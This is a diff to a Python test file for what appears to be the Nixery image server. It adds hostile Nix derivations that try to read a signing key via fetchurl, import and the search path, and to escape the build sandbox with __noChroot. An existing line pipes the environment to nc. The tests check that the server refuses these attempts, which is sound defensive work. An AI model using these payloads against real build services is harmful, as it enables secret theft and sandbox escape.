@@ -80,6 +80,15 @@ def hostile_set(directory: Path, secret: Path, port: int = 0, escape: Path = Pat
   leakcopy = mk "leakcopy" ''
     mkdir -p $out/etc && ln -s ${{builtins.path {{ path = /. + "{secret}"; name = "copied"; }}}} $out/etc/copied
   '';
+  leakfetch = mk "leakfetch" ''
+    mkdir -p $out/etc && cp ${{builtins.fetchurl "file://{secret}"}} $out/etc/fetched
+  '';
+  leakimport = mk "leakimport" ''
+    mkdir -p $out/etc && echo ${{import {secret.parent}/secret.nix}} > $out/etc/imported
+  '';
+  leaksearch = mk "leaksearch" ''
+    mkdir -p $out/etc && echo ${{builtins.readFile <nixery-keys/{secret.name}>}} > $out/etc/searched
+  '';
   envFetch = derivation {{
     name = "env-fetch-${{salt}}"; system = buildSystem; builder = bb; PATH = "${{bbdir}}/bin";
     args = [ "sh" "-c" "env | nc -w 2 127.0.0.1 {port}; echo fetched > $out" ];
@@ -97,6 +106,11 @@ def hostile_set(directory: Path, secret: Path, port: int = 0, escape: Path = Pat
     echo escaped > {escape} || true
     mkdir -p $out/etc && echo built > $out/etc/escape
   '';
+  escapeNoChroot = derivation {{
+    name = "escape-nochroot"; system = buildSystem; builder = bb; PATH = "${{bbdir}}/bin"; inherit salt;
+    __noChroot = true;
+    args = [ "sh" "-c" "echo escaped > {escape}-nochroot; mkdir -p $out" ];
+  }};
 '''
     default = directory / "default.nix"
     default.write_text(default.read_text().replace("in rec {", "in rec {" + attributes, 1))
@@ -110,7 +124,9 @@ def secret(tmp_path) -> bytes:
     path = tmp_path / "keys" / "signing-key.pem"
     path.parent.mkdir()
     path.write_bytes(value)
-    path.chmod(0o600)
+    (path.parent / "secret.nix").write_bytes(b'"' + value + b'"')
+    for file in path.parent.iterdir():
+        file.chmod(0o600)
     return value
 
 
@@ -152,15 +168,19 @@ def refused(server, name: str, tag: str, tmp_path: Path) -> str:
 
 def test_a_path_set_cannot_read_the_servers_files(start_server, tmp_path, secret):
     pkgs = hostile_set(tmp_path / "pkgs", secret_path(tmp_path))
-    server = start_server({"NIXERY_PKGS_PATH": str(pkgs)})
+    # NIX_PATH naming the secret's directory, as a service user's profile might.
+    server = start_server({"NIXERY_PKGS_PATH": str(pkgs), "NIX_PATH": f"nixery-keys={secret_path(tmp_path).parent}"})
     rootfs = pulled(server, "shell/hello", tmp_path)
     assert (rootfs / "bin" / "hello").exists(), "restricted evaluation still serves the set's own packages"
 
-    for name in ("leak", "leakcopy"):
+    for name in ("leak", "leakcopy", "leakfetch", "leakimport"):
         stderr = refused(server, name, "latest", tmp_path)
         assert "forbidden in restricted mode" in stderr and "evaluates package sets in restricted mode" in stderr
         answer = requests.get(f"{server.url}/v2/{name}/manifests/latest", timeout=60)
         assert answer.status_code == 403 and answer.json()["errors"][0]["code"] == "DENIED"
+    refused(server, "leaksearch", "latest", tmp_path)
+    searched = requests.get(f"{server.url}/v2/leaksearch/manifests/latest", timeout=60).json()["errors"][0]
+    assert "was not found in the Nix search path" in searched["message"]
     assert_nowhere_in_storage(server, secret)
 
 
@@ -241,12 +261,18 @@ def test_a_build_cannot_write_to_the_hosts_files(start_server, tmp_path, secret)
     server = start_server({"NIXERY_PKGS_PATH": str(pkgs), **unsandboxed})
     assert not [e for e in server.log_entries() if "sandbox" in e.get("message", "")], \
         "the preflight reports the sandbox on"
-    rootfs = pulled(server, "escape", tmp_path)
-    assert (rootfs / "etc" / "escape").read_text() == "built\n"
+    written = [escape, Path(f"{escape}-nochroot")]
     try:
-        assert not escape.exists(), "the builder wrote into the host's /tmp"
+        rootfs = pulled(server, "escape", tmp_path)
+        assert (rootfs / "etc" / "escape").read_text() == "built\n"
+        # A derivation asking to be built outside the sandbox is refused instead.
+        refused(server, "escapenochroot", "latest", tmp_path)
+        answer = requests.get(f"{server.url}/v2/escapenochroot/manifests/latest", timeout=60).json()["errors"][0]
+        assert "__noChroot" in answer["message"], answer
+        assert not [path for path in written if path.exists()], "builders wrote into the host's /tmp"
     finally:
-        escape.unlink(missing_ok=True)
+        for path in written:
+            path.unlink(missing_ok=True)
 
 
 def test_nix_gets_no_variable_of_nixery_nor_credentials():
